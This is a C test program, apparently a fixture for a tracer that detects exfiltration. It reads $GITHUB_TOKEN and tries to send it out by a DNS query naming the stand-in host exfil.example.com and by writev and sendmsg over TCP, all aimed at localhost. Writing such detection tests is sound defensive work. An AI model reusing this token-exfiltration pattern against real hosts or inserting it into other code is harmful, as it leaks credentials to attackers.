/* sender: sends the value of $GITHUB_TOKEN the ways a program can: a DNS query over
 * UDP with sendto, a TCP connection to 127.0.0.1:PORT (argv[1], default 8080) written
 * with writev, and a sendmsg whose bytes are split over two iovecs. Failures are
 * ignored: the tracer sees the attempts. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    const char *tok = getenv("GITHUB_TOKEN");
    if (!tok)
        tok = "no-token";
    /* a DNS question for exfil.example.com */
    unsigned char q[512] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
    size_t n = 12;
    const char *labels[] = { "exfil", "example", "com" };
    for (int i = 0; i < 3; i++) {
        q[n++] = (unsigned char)strlen(labels[i]);
        memcpy(q + n, labels[i], strlen(labels[i]));
        n += strlen(labels[i]);
    }
    q[n++] = 0;
    q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
    struct sockaddr_in dns = { .sin_family = AF_INET, .sin_port = htons(53) };
    inet_pton(AF_INET, "127.0.0.1", &dns.sin_addr);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(u, q, n, 0, (struct sockaddr *)&dns, sizeof dns);
    close(u);

    struct sockaddr_in web = { .sin_family = AF_INET,
                               .sin_port = htons((unsigned short)(argc > 1 ? atoi(argv[1]) : 8080)) };
    inet_pton(AF_INET, "127.0.0.1", &web.sin_addr);
    int t = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(t, (struct sockaddr *)&web, sizeof web) == 0) {
        size_t half = strlen(tok) / 2;
        struct iovec iov[3] = {
            { "POST /t HTTP/1.0\r\n\r\n", 20 },
            { (void *)tok, half },
            { (void *)(tok + half), strlen(tok) - half },
        };
        writev(t, iov, 3);
        struct msghdr m = { .msg_iov = iov, .msg_iovlen = 3 };
        sendmsg(t, &m, 0);
    }
    close(t);
    return 0;
}
